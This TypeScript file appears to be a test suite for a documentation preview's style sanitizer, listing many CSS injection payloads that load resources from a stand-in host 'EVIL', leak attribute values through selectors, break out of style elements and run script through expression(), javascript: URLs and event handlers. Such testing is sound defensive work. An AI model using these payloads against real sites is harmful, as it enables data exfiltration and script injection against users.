import { pages, type Payload } from "../payload.ts";

/** Values of a background property that load a resource or run code. */
const values: Readonly<Record<string, string>> = {
  url: "url(https://EVIL/p.png)",
  "url in quotes": "url('https://EVIL/p.png')",
  "url in uppercase": "URL(https://EVIL/p.png)",
  "url with spaces": "url(  'https://EVIL/p.png'  )",
  "url with an escape": "\\\\75rl(https://EVIL/p.png)",
  "url with an escape with leading zeros": "u\\\\000072l(https://EVIL/p.png)",
  "url after a comment": "/**/url(https://EVIL/p.png)",
  "url with a comment inside": "u/**/rl(https://EVIL/p.png)",
  "url without a scheme": "url(//EVIL/p.png)",
  "url after a color": "red url(https://EVIL/p.png)",
  "image-set": "image-set('https://EVIL/p.png' 1x)",
  "image-set with its prefix": "-webkit-image-set(url(https://EVIL/p.png) 1x)",
  "cross-fade": "-webkit-cross-fade(url(https://EVIL/p.png), url(https://EVIL/q.png), 50%)",
  image: "image('https://EVIL/p.png')",
  src: "src('https://EVIL/p.png')",
  "the fallback of a variable": "var(--none, url(https://EVIL/p.png))",
  expression: "expression(RUN)",
  "a script": "url(javascript:RUN)",
  "a second declaration": "red; background-image: url(https://EVIL/p.png)",
  "a closed rule": "red} body { background: url(https://EVIL/p.png)",
  "a file from the site and one from the web": "url(/a.png), url(https://EVIL/p.png)",
  "a file from the site in an image set": "image-set(url(/a.png) 1x, 'https://EVIL/p.png' 2x)",
  "the preview's internal URL of a site file": 'url(\\"docwright-site:/a.png\\"), url(https://EVIL/p.png)',
  "the preview's internal URL with a host": 'url(\\"docwright-site://EVIL/p.png\\")',
  "the preview's internal placeholder character": "u\ue000rl(https://EVIL/p.png)",
  "an SVG image in a data URL":
    "url(\\\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://EVIL/p.png'/></svg>\\\")",
};

const properties =
  "backgroundImage background borderImage borderImageSource content cursor filter backdropFilter clipPath mask maskImage WebkitMaskImage WebkitMaskBoxImage listStyle listStyleImage shapeOutside offsetPath markerEnd fill stroke WebkitBoxReflect behavior MozBinding src";

const cssName = (name: string): string =>
  name.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`).replace(/^(webkit|moz)-/, "-$1-");

const sheets: Readonly<Record<string, string>> = {
  "@import": "@import url(https://EVIL/a.css);",
  "@import with a string": "@import 'https://EVIL/a.css';",
  "@import with an escape": "@\\69mport 'https://EVIL/a.css';",
  "@import after a comment": "/*a*/@import/*b*/'https://EVIL/a.css';",
  "@import after a charset rule": "@charset 'utf-8';@import 'https://EVIL/a.css' layer(x);",
  "@font-face": "@font-face{font-family:x;src:url(https://EVIL/f.woff2)} *{font-family:x}",
  "@font-face in uppercase": "@FONT-FACE{font-family:xx;src:url(https://EVIL/f.woff2)} *{font-family:xx}",
  "@namespace": "@namespace url(https://EVIL);",
  "@document": "@-moz-document url-prefix(){*{background:url(https://EVIL/p.png)}}",
  "@media": "@media all{.dw-page,*{background-image:url(https://EVIL/p.png)}}",
  "@supports": "@supports (display:block){*{background-image:url(https://EVIL/p.png)}}",
  "@layer": "@layer a{*{background-image:url(https://EVIL/p.png)}}",
  "@keyframes": "@keyframes a{from,to{background-image:url(https://EVIL/p.png)}} *{animation:a 1s infinite}",
  "@page": "@page{background:url(https://EVIL/p.png)}",
  "@counter-style": "@counter-style a{system:cyclic;symbols:url(https://EVIL/p.png)} *{list-style:a}",
  "@property":
    "@property --a{syntax:'<image>';inherits:false;initial-value:url(https://EVIL/p.png)} *{background-image:var(--a)}",
  "@container": "@container (min-width:1px){*{background-image:url(https://EVIL/p.png)}}",
  "@scope": "@scope (body){*{background-image:url(https://EVIL/p.png)}}",
  "@starting-style": "@starting-style{*{background-image:url(https://EVIL/p.png)}}",
  "a rule": "*{background-image:url(https://EVIL/p.png)}",
  "a rule with an escape": "*{background-image:\\75rl(https://EVIL/p.png)}",
  "a rule with a variable": ":root{--a:url(https://EVIL/p.png)} *{background-image:var(--a)}",
  "a rule with a variable and an escape": "*{--a:\\75rl(https://EVIL/p.png);background-image:var(--a)}",
  "a nested rule": "*{&,& *{background-image:url(https://EVIL/p.png)}}",
  "a rule that leaks attribute values":
    "a[href^='/']{background:url(https://EVIL/p.png)} input[value^='a']{background:url(https://EVIL/q.png)}",
  "a rule for content": "*::before{content:url(https://EVIL/p.png)}",
  "a rule for the cursor": "*{cursor:url(https://EVIL/c.png),auto}",
  "a rule in an unclosed string": 'a{content:"} *{background-image:url(https://EVIL/p.png)} b{"}',
  "markup after the end of the element": "</style><img src=x onerror=RUN>",
  "a rule in an HTML comment": "<!-- *{background-image:url(https://EVIL/p.png)} -->",
  "obsolete properties that run code":
    "*{background:url(javascript:RUN);width:expression(RUN);behavior:url(https://EVIL/a.htc);-moz-binding:url(https://EVIL/a.xml#x)}",
};

const classes: Readonly<Record<string, string>> = {
  "an arbitrary picture": "bg-[url(https://EVIL/p.png)]",
  "an arbitrary picture in quotes": "bg-[url('https://EVIL/p.png')]",
  "an arbitrary property": "[background-image:url(https://EVIL/p.png)]",
  "an arbitrary property with an escape": "[background-image:\\75rl(https://EVIL/p.png)]",
  "an arbitrary variable": "[--a:url(https://EVIL/p.png)] bg-[image:var(--a)]",
  "arbitrary content": "before:content-[url(https://EVIL/p.png)]",
  "an arbitrary cursor": "cursor-[url(https://EVIL/c.png),auto]",
  "an arbitrary list": "list-[url(https://EVIL/p.png)] list-image-[url(https://EVIL/p.png)]",
  "an arbitrary mask": "[mask-image:url(https://EVIL/p.png)] [-webkit-mask:url(https://EVIL/p.png)]",
  "an arbitrary selector": "[&_*]:bg-[url(https://EVIL/p.png)]",
  "an arbitrary rule": "[@import_url(https://EVIL/a.css)]:flex [@font-face]:flex",
  "a class that closes its rule": "bg-[red}*{background:url(https://EVIL/p.png)}]",
  "a class that closes its selector": "[&{}*{background:url(https://EVIL/p.png)}a]:flex",
  "a class that closes its media query": "min-[1px){*{background:url(https://EVIL/p.png)}}@media(min-width:1px]:flex",
  "an important picture": "!bg-[url(https://EVIL/p.png)] bg-[url(https://EVIL/p.png)]!",
  "a gradient with a picture": "bg-[linear-gradient(red,blue),url(https://EVIL/p.png)] from-[url(https://EVIL/p.png)]",
  "a font with a URL": "font-[url(https://EVIL/f.woff2)] text-[url(https://EVIL/p.png)]",
  "a filter with a URL":
    "[filter:url(https://EVIL/a.svg#x)] backdrop-[url(https://EVIL/a.svg#x)] drop-shadow-[url(https://EVIL/x)]",
  "a shadow with a picture": "shadow-[0_0_0_url(https://EVIL/p.png)] border-[url(https://EVIL/p.png)]",
  "an image set": "bg-[image-set('https://EVIL/p.png'_1x)]",
  "an underscore in place of a space": "bg-[url(_https://EVIL/p.png_)]",
  "a theme function": "bg-[theme(url(https://EVIL/p.png))] bg-(--a) bg-[image:theme('x',url(https://EVIL/p.png))]",
};

export const styles: readonly Payload[] = [
  ...Object.entries(values).map(([how, value]): Payload => {
    const text = (JSON.parse(`"${value}"`) as string).replaceAll("&", "&amp;").replaceAll('"', "&quot;");
    return {
      name: `style/value ${how}`,
      page: `<div style={{ background: "${value}", backgroundImage: "${value}", "--a": "${value}" }}>a</div>\n\n<p style="background-image: ${text}">a</p>\n\n<span style={{ "--b": "${value}", backgroundImage: "var(--b)" }}>a</span>`,
      html: `<div style="background: ${text}">a</div><p style="background-image: ${text}">a</p><p style="--b: ${text};background-image:var(--b)">a</p>`,
    };
  }),
  ...properties.split(" ").map((name): Payload => ({
    name: `style/property ${name}`,
    page: `<ul style={{ ${name}: "url(https://EVIL/p.png)", "${cssName(name)}": "url(https://EVIL/q.png)" }}><li>a</li></ul>\n\n<p style="${cssName(name)}: url(https://EVIL/p.png) 10 10 stretch">a</p>`,
    html: `<ul style="display:block;width:9px;height:9px;${cssName(name)}: url(https://EVIL/p.png)"><li>a</li></ul><ol style="border:9px solid;border-image-width:9px;${cssName(name)}: url(https://EVIL/p.png) 9"><li>a</li></ol>`,
  })),
  ...Object.entries(sheets).map(([how, text]): Payload => ({
    name: `style/sheet ${how}`,
    page: `<style>{${JSON.stringify(text)}}</style>\n\n<div><a href="/a">a</a><ol><li><input value="abc" /></li></ol></div>`,
    html: `<style>${text}</style><div style="width:9px;height:9px"><a href="/a">a</a><ol><li><input value="abc"></li></ol></div>`,
  })),
  ...Object.entries(classes).map(([how, names]): Payload => ({
    name: `style/classes ${how}`,
    page: `<div className=${JSON.stringify(names.replaceAll('"', "'"))} class={${JSON.stringify(names)}}><p>a</p><ul><li>b</li></ul></div>\n\n<Card title="a" className={${JSON.stringify(names)}}>b</Card>`,
    html: "",
  })),
  ...pages("style", {
    "an element that covers everything":
      '<div style={{ position: "fixed", inset: 0, zIndex: 99999 }}>a</div>\n\n<div className="fixed inset-0 z-[99999]">a</div>',
    "text that closes the style element": [
      "<style>{'</style><script>RUN</script>'}</style>",
      "<style></style><script>RUN</script>",
    ],
    "an import in a style element": [
      "<style>\n  @import 'https://EVIL/a.css';\n</style>",
      "<style>\n  @import 'https://EVIL/a.css';\n</style>",
    ],
    "a style element with a load handler": [
      '<style media="all" onLoad="RUN">{`a{}`}</style>',
      '<style media="all" onload="RUN">a{}</style>',
    ],
    "a spread style attribute": [
      '<p {...{ style: "background:url(https://EVIL/p.png)" }}>a</p>',
      '<p style="background:url(https://EVIL/p.png)">a</p>',
    ],
    "a style on a component": [
      '<Frame style={{ backgroundImage: "url(https://EVIL/p.png)" }} className="a"><p>a</p></Frame>\n\n<Columns style={{ background: "url(https://EVIL/p.png)" }}><p>b</p></Columns>',
      '<p style="background:url(https://EVIL/p.png)">a</p>',
    ],
  }),
];
